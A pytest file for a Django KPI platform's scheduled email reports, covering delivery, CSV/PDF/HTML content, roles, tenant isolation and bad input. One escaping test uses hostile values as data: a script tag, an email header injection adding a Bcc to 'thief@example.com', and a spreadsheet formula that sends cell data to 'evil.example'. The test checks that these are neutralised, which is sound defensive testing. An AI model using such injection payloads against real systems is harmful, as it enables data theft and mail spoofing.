"""Scheduled reports: a weekly report through a real SMTP server on loopback, once, with the
numbers of the API in its HTML table, CSV and PDF; escaping; roles; isolation; bad input."""

from __future__ import annotations

import csv
import datetime as dt
import io
import re
from decimal import Decimal
from html.parser import HTMLParser

import pypdf
import pytest
from django.db import connection
from django.utils import timezone
from reports_data import REPORT_KPIS, load_moving_mrr

from kpiplatform.celery import app
from kpiplatform.goals.models import Goal
from kpiplatform.kpis.formatting import kpi_value
from kpiplatform.reports import delivery
from kpiplatform.reports.models import ReportDelivery, ReportSchedule
from kpiplatform.reports.periods import last_complete_period
from kpiplatform.tenants.models import Company
from kpiplatform.tenants.tasks import tick
from kpiplatform.testing.mail import sending_to, smtp_sink

# A tick minute on which the reports task is due (every 5) and the hourly purge is not.
TICK_MINUTE = 60 * 1000 + 5
HOSTILE = '<script>&"=cmd'


@pytest.fixture
def eager(settings):
    settings.KPI_SIGNUP_POOL_SIZE = 0  # the tick also refills the signup pool: not here
    app.conf.task_always_eager = True
    yield
    app.conf.task_always_eager = settings.CELERY_TASK_ALWAYS_EAGER


@pytest.fixture
def weekly(acme):
    """Acme's moving MRR and a weekly report of it, made a month ago, for the viewer and an
    outside address."""
    with acme.activate():
        week = load_moving_mrr()
    response = acme.client("analyst").post(
        "/api/v1/report-schedules/",
        {
            "name": "Weekly numbers",
            "frequency": "weekly",
            "kpis": REPORT_KPIS,
            "recipient_users": [acme.user("viewer").pk],
            "recipient_addresses": ["CFO@Example.com"],
        },
        content_type="application/json",
    )
    assert response.status_code == 201, response.content
    schedule_id = response.json()["id"]
    with acme.activate():
        ReportSchedule.objects.filter(pk=schedule_id).update(
            created_at=timezone.now() - dt.timedelta(days=30)
        )
    connection.set_schema_to_public()
    return {"company": acme, "week": week, "id": schedule_id}


def run_tick(django_capture_on_commit_callbacks) -> None:
    connection.set_schema_to_public()
    with django_capture_on_commit_callbacks(execute=True):
        tick.apply(kwargs={"minute": TICK_MINUTE}).get()
    connection.set_schema_to_public()


class TableCells(HTMLParser):
    """``data-kpi`` rows of the e-mail's table and the ``data-value`` of their cells."""

    def __init__(self) -> None:
        super().__init__()
        self.rows: dict[str, list[str]] = {}
        self._kpi = None

    def handle_starttag(self, tag, attrs):
        attrs = dict(attrs)
        if tag == "tr" and "data-kpi" in attrs:
            self._kpi = attrs["data-kpi"]
            self.rows[self._kpi] = []
        elif tag == "td" and self._kpi and "data-value" in attrs:
            self.rows[self._kpi].append(attrs["data-value"])

    def handle_endtag(self, tag):
        if tag == "tr":
            self._kpi = None


def api_value(client, key: str, start: dt.date) -> str | None:
    rows = client.get(f"/api/v1/kpis/{key}/series/?grain=week&start={start}&end={start}").json()
    (row,) = [row for row in rows if row["start"] == start.isoformat()]
    return row["value"]


def parts(message) -> dict:
    """The e-mail's HTML, its inline images by Content-ID and its attachments by name."""
    html = message.get_body(preferencelist=("html",)).get_content()
    images = {
        part["Content-ID"].strip("<>"): part.get_content()
        for part in message.walk()
        if part.get_content_type() == "image/png"
    }
    files = {part.get_filename(): part.get_content() for part in message.iter_attachments()}
    return {"html": html, "images": images, "files": files}


def pdf_text(data: bytes) -> str:
    return "\n".join(page.extract_text() for page in pypdf.PdfReader(io.BytesIO(data)).pages)


def test_a_weekly_report_arrives_once_with_the_numbers_of_the_api_in_html_csv_and_pdf(
    weekly, eager, settings, django_capture_on_commit_callbacks
):
    acme, week = weekly["company"], weekly["week"]
    with acme.activate():
        # A standing weekly MRR goal of 160 (150 misses it), 2 active customers this week (met).
        Goal.objects.create(kpi_key="mrr", grain="week", target=Decimal("160"))
        Goal.objects.create(
            kpi_key="active_customers", grain="week", period_start=week.start, target=2
        )
    with smtp_sink() as sink, sending_to(sink, settings):
        run_tick(django_capture_on_commit_callbacks)
        run_tick(django_capture_on_commit_callbacks)  # the same period: nothing more
        received = list(sink.received)
    assert len(received) == 1
    sender, recipients, message = received[0]
    assert sorted(recipients) == ["cfo@example.com", acme.email("viewer")]
    assert sender in settings.DEFAULT_FROM_EMAIL
    assert message["Subject"] == f"Acme Inc: Weekly numbers, {week.label}"

    client = acme.client("viewer")
    previous = week.previous().start
    expected = {
        key: [api_value(client, key, week.start), api_value(client, key, previous)]
        for key in REPORT_KPIS
    }
    # By hand (tests/reports_data.py): MRR 150 after 130, 2 active customers, 1 of 2 churned.
    assert expected["mrr"] == ["150", "130"]
    assert expected["active_customers"] == ["2", "2"]
    assert Decimal(expected["customer_churn_rate"][0]) == Decimal("0.5")

    content = parts(message)
    table = TableCells()
    table.feed(content["html"])

    def normal(values) -> list:
        return [format(Decimal(v).normalize(), "f") if v else None for v in values]

    # Each row's cells: value, previous value, goal.
    assert {key: normal(cells) for key, cells in table.rows.items()} == {
        "mrr": [*normal(expected["mrr"]), "160"],
        "active_customers": [*normal(expected["active_customers"]), "2"],
        "customer_churn_rate": [*normal(expected["customer_churn_rate"]), None],
    }

    # Every chart the HTML refers to is inline, a PNG.
    cids = re.findall(r'src="cid:([^"]+)"', content["html"])
    assert len(cids) == len(REPORT_KPIS)
    assert all(content["images"][cid].startswith(b"\x89PNG") for cid in cids)

    rows = list(
        csv.DictReader(io.StringIO(content["files"][f"report-{week.label}.csv"].lstrip("\ufeff")))
    )
    assert {row["kpi"]: [row["value"], row["previous_value"]] for row in rows} == expected
    mrr_row = next(row for row in rows if row["kpi"] == "mrr")
    assert (mrr_row["change"], mrr_row["period_start"]) == ("20", week.start.isoformat())
    assert {row["kpi"]: (row["goal"], row["goal_met"]) for row in rows} == {
        "mrr": ("160", "no"),
        "active_customers": ("2", "yes"),
        "customer_churn_rate": ("", ""),
    }

    text = pdf_text(content["files"][f"report-{week.label}.pdf"])
    assert "Acme Inc" in text and week.label in text
    assert "EUR 150.00" in text and "EUR 130.00" in text
    assert "EUR 160.00 (not met)" in text and "2 (met)" in text
    churn = Decimal(expected["customer_churn_rate"][0])
    assert kpi_value(churn, "percent") in text  # 50.0 %

    with acme.activate():
        (sent,) = ReportDelivery.objects.all()
        assert sent.state == ReportDelivery.State.SENT
        assert sent.message_id == message["Message-ID"]
        assert sent.period_start == week.start
    # The API's content of the report holds the same numbers.
    body = client.get(f"/api/v1/report-schedules/{weekly['id']}/content/").json()
    assert body["period"] == week.label
    assert {row["kpi"]: [row["value"], row["previous_value"]] for row in body["rows"]} == expected


def test_a_schedule_made_after_the_period_ended_waits_for_the_next_one(weekly):
    acme = weekly["company"]
    with acme.activate():
        ReportSchedule.objects.filter(pk=weekly["id"]).update(created_at=timezone.now())
        assert delivery.claim_due_reports() == []
        assert not ReportDelivery.objects.exists()


def test_periods_are_cut_in_the_company_time_zone(acme):
    # Monday 30 November 2026, 00:30 in Paris, is still Sunday in UTC.
    moment = dt.datetime(2026, 11, 29, 23, 30, tzinfo=dt.UTC)
    with acme.activate():
        from kpiplatform.testing.kpis import configure_company

        configure_company("EUR", "Europe/Paris")
        assert last_complete_period("weekly", moment).label == "2026-W48"
        assert last_complete_period("monthly", moment + dt.timedelta(days=1)).label == "2026-11"
        configure_company("EUR", "UTC")
        assert last_complete_period("weekly", moment).label == "2026-W47"
        assert last_complete_period("monthly", moment + dt.timedelta(days=1)).label == "2026-10"


def test_names_are_escaped_in_the_html_the_pdf_the_csv_and_the_headers(
    weekly, settings, eager, django_capture_on_commit_callbacks
):
    acme = weekly["company"]
    Company.objects.filter(pk=acme.company.pk).update(name=HOSTILE + "\r\nBcc: thief@example.com")
    client = acme.client("analyst")
    patched = client.patch(
        f"/api/v1/report-schedules/{weekly['id']}/",
        {"name": '=HYPERLINK("http://evil.example/?"&A1)'},
        content_type="application/json",
    )
    assert patched.status_code == 200
    with smtp_sink() as sink, sending_to(sink, settings):
        with django_capture_on_commit_callbacks(execute=True):
            assert client.post(f"/api/v1/report-schedules/{weekly['id']}/send/").status_code == 202
        received = list(sink.received)
    ((_, recipients, message),) = received
    assert "thief@example.com" not in recipients and message["Bcc"] is None
    assert "\n" not in message["Subject"] and message["Subject"].startswith(HOSTILE)

    content = parts(message)
    assert HOSTILE not in content["html"] and "<script>" not in content["html"]
    assert "&lt;script&gt;&amp;&quot;=cmd" in content["html"]
    csv_text = next(v for k, v in content["files"].items() if k.endswith(".csv"))
    rows = list(csv.DictReader(io.StringIO(csv_text.lstrip("\ufeff"))))
    assert rows[0]["company"].startswith(HOSTILE)  # starts with "<": not a formula
    assert rows[0]["report"] == "'" + '=HYPERLINK("http://evil.example/?"&A1)'
    assert all(not row[c].startswith("=") for row in rows for c in row)
    pdf = pdf_text(next(v for k, v in content["files"].items() if k.endswith(".pdf")))
    assert HOSTILE in pdf  # plain text in the PDF, never markup

    preview = client.get(f"/reports/{weekly['id']}/preview/")
    assert preview.status_code == 200
    assert b"<script>" not in preview.content and b"&lt;script&gt;" in preview.content
    page = client.get(f"/reports/{weekly['id']}/")
    assert b"&lt;script&gt;" in page.content or b"<script>&" not in page.content


def test_recipients_the_server_refuses_fail_the_delivery_with_their_addresses(
    weekly, settings, eager, django_capture_on_commit_callbacks
):
    acme = weekly["company"]
    client = acme.client("analyst")
    with smtp_sink() as sink, sending_to(sink, settings):
        sink.refuse("cfo@example.com")
        sink.refuse(acme.email("viewer"))
        with django_capture_on_commit_callbacks(execute=True):
            client.post(f"/api/v1/report-schedules/{weekly['id']}/send/")
        assert sink.messages == []
    (failed,) = client.get(f"/api/v1/report-schedules/{weekly['id']}/deliveries/").json()["results"]
    assert failed["state"] == "failed"
    refused = ", ".join(sorted(["cfo@example.com", acme.email("viewer")]))
    assert failed["error"] == f"Recipients refused: {refused}"


def test_an_unreachable_mail_server_leaves_the_report_queued_for_a_retry(weekly, settings):
    acme = weekly["company"]
    with smtp_sink() as sink:
        port = sink.port
    settings.EMAIL_BACKEND = "django.core.mail.backends.smtp.EmailBackend"
    settings.EMAIL_HOST, settings.EMAIL_PORT, settings.EMAIL_TIMEOUT = "127.0.0.1", port, 2
    with acme.activate():
        queued, _ = delivery.send_now(ReportSchedule.objects.get(pk=weekly["id"]), None)
        with pytest.raises(delivery.MailServerUnavailable):
            delivery.deliver(queued.pk)
        queued.refresh_from_db()
        assert (queued.state, queued.attempts) == ("queued", 1)


def test_a_second_send_now_joins_the_first_still_on_its_way(weekly):
    client = weekly["company"].client("analyst")
    url = f"/api/v1/report-schedules/{weekly['id']}/send/"
    first = client.post(url)
    assert first.status_code == 202
    second = client.post(url)
    assert second.status_code == 409
    assert second.json()["delivery"]["id"] == first.json()["delivery"]["id"]


# --- roles, pages, bad input, isolation ------------------------------------------------------
def test_viewers_read_schedules_and_analysts_and_admins_edit_them(weekly):
    acme = weekly["company"]
    url = f"/api/v1/report-schedules/{weekly['id']}/"
    viewer = acme.client("viewer")
    assert viewer.get("/api/v1/report-schedules/").json()[0]["name"] == "Weekly numbers"
    refused = viewer.patch(url, {"name": "x"}, content_type="application/json")
    assert refused.status_code == 403
    assert refused.json()["error"]["message"] == "This needs the Analyst role."
    assert viewer.post(url + "send/").status_code == 403
    assert viewer.get(f"/reports/{weekly['id']}/edit/").status_code == 403
    assert viewer.post(f"/reports/{weekly['id']}/send/").status_code == 403
    assert viewer.get(f"/reports/{weekly['id']}/").status_code == 200
    assert b"/send/" not in viewer.get(f"/reports/{weekly['id']}/").content
    admin = acme.client("admin")
    assert (
        admin.patch(url, {"enabled": False}, content_type="application/json").json()["enabled"]
        is False
    )
    assert acme.client("analyst").delete(url).status_code == 204


def test_the_pages_create_edit_send_and_preview_a_report(acme, weekly):
    client = acme.client("analyst")
    form = {
        "name": "Monthly board pack",
        "frequency": "monthly",
        "kpis": ["mrr", "active_customers"],
        "recipient_users": [acme.user("admin").pk],
        "recipient_addresses": "board@example.com, chair@example.com",
        "enabled": "on",
    }
    created = client.post("/reports/new/", form)
    assert created.status_code == 302
    with acme.activate():
        schedule = ReportSchedule.objects.get(name="Monthly board pack")
        assert schedule.recipients() == [
            acme.email("admin"),
            "board@example.com",
            "chair@example.com",
        ]
    page = client.get(created["Location"])
    assert b"Monthly board pack" in page.content and b"Send now" in page.content
    sent = client.post(f"/reports/{schedule.pk}/send/", follow=True)
    assert b"Sending the report to" in sent.content
    assert b"queued" in client.get("/reports/sent/").content
    preview = client.get(f"/reports/{schedule.pk}/preview/")
    assert preview.status_code == 200 and b"data:image/png;base64," in preview.content
    pdf = client.get(f"/reports/{schedule.pk}/preview.pdf")
    assert pdf["Content-Type"] == "application/pdf" and pdf.content.startswith(b"%PDF")
    assert client.get(f"/reports/{schedule.pk}/preview.csv?period_start=nope").status_code == 400


@pytest.mark.parametrize(
    "body, field, message",
    [
        ({"kpis": ["mrr", "no_such_kpi"]}, "kpis", "Unknown KPI: no_such_kpi."),
        ({"kpis": []}, "kpis", "Choose at least one KPI."),
        ({"kpis": ["mrr", "mrr"]}, "kpis", "A KPI is listed twice."),
        ({"frequency": "daily"}, "frequency", '"daily" is not a valid choice.'),
        ({"recipient_addresses": ["not-an-address"]}, "recipient_addresses", None),
        (
            {"recipient_users": [], "recipient_addresses": []},
            "recipient_users",
            "Choose at least one recipient: a member or an address.",
        ),
        ({"recipient_users": [999999]}, "recipient_users", None),
        ({"name": "bad\x00name"}, "name", None),
    ],
)
def test_a_bad_schedule_is_refused_with_a_message_naming_the_field(acme, body, field, message):
    valid = {
        "name": "Weekly",
        "frequency": "weekly",
        "kpis": ["mrr"],
        "recipient_addresses": ["a@example.com"],
    }
    response = acme.client("analyst").post(
        "/api/v1/report-schedules/", {**valid, **body}, content_type="application/json"
    )
    assert response.status_code == 400, response.content
    error = response.json()["error"]
    assert field in error["fields"]
    if message:
        assert error["fields"][field] == [message] or message in str(error["fields"][field])
    with acme.activate():
        assert not ReportSchedule.objects.exists()


def test_the_form_refuses_bad_addresses_and_no_recipient_with_messages(acme):
    client = acme.client("analyst")
    bad = client.post(
        "/reports/new/",
        {"name": "x", "frequency": "weekly", "kpis": ["mrr"], "recipient_addresses": "nope"},
    )
    assert bad.status_code == 400 and b"Not an e-mail address: nope." in bad.content
    none = client.post("/reports/new/", {"name": "x", "frequency": "weekly", "kpis": ["mrr"]})
    assert none.status_code == 400 and b"Choose at least one recipient" in none.content
    period = client.get("/api/v1/report-schedules/1/content/?period_start=0001-01-01")
    assert period.status_code in (400, 404)


def test_another_company_sees_and_sends_nothing_of_a_companys_reports(
    weekly, globex, settings, eager, django_capture_on_commit_callbacks
):
    other = globex.client("admin")
    sid = weekly["id"]
    assert other.get("/api/v1/report-schedules/").json() == []
    for path in (f"/api/v1/report-schedules/{sid}/", f"/api/v1/report-schedules/{sid}/content/"):
        assert other.get(path).status_code == 404
    assert other.post(f"/api/v1/report-schedules/{sid}/send/").status_code == 404
    assert other.get(f"/reports/{sid}/preview/").status_code == 404
    assert b"Weekly numbers" not in other.get("/reports/sent/").content
    # Globex's tick task sends nothing of Acme's.
    with smtp_sink() as sink, sending_to(sink, settings):
        with globex.activate(), django_capture_on_commit_callbacks(execute=True):
            assert delivery.claim_due_reports() == []
        assert sink.messages == []


def test_the_tick_resends_a_delivery_whose_task_was_lost_but_not_one_being_retried(
    weekly, settings, eager, django_capture_on_commit_callbacks
):
    acme = weekly["company"]
    with acme.activate():
        schedule = ReportSchedule.objects.get(pk=weekly["id"])
        lost, _ = delivery.send_now(schedule, None)  # its task never runs: no commit here
        retried = ReportDelivery.objects.create(
            schedule=schedule, trigger="manual", grain="week", attempts=1,
            period_start=lost.period_start, period_end=lost.period_end,
        )  # fmt: skip
        ReportDelivery.objects.update(queued_at=timezone.now() - dt.timedelta(minutes=11))
        with smtp_sink() as sink, sending_to(sink, settings):
            with django_capture_on_commit_callbacks(execute=True):
                delivery.claim_due_reports()
            assert len(sink.messages) == 2  # the lost one, and the scheduled one just claimed
        lost.refresh_from_db()
        retried.refresh_from_db()
        assert lost.state == "sent"
        assert (retried.state, retried.attempts) == ("queued", 1)
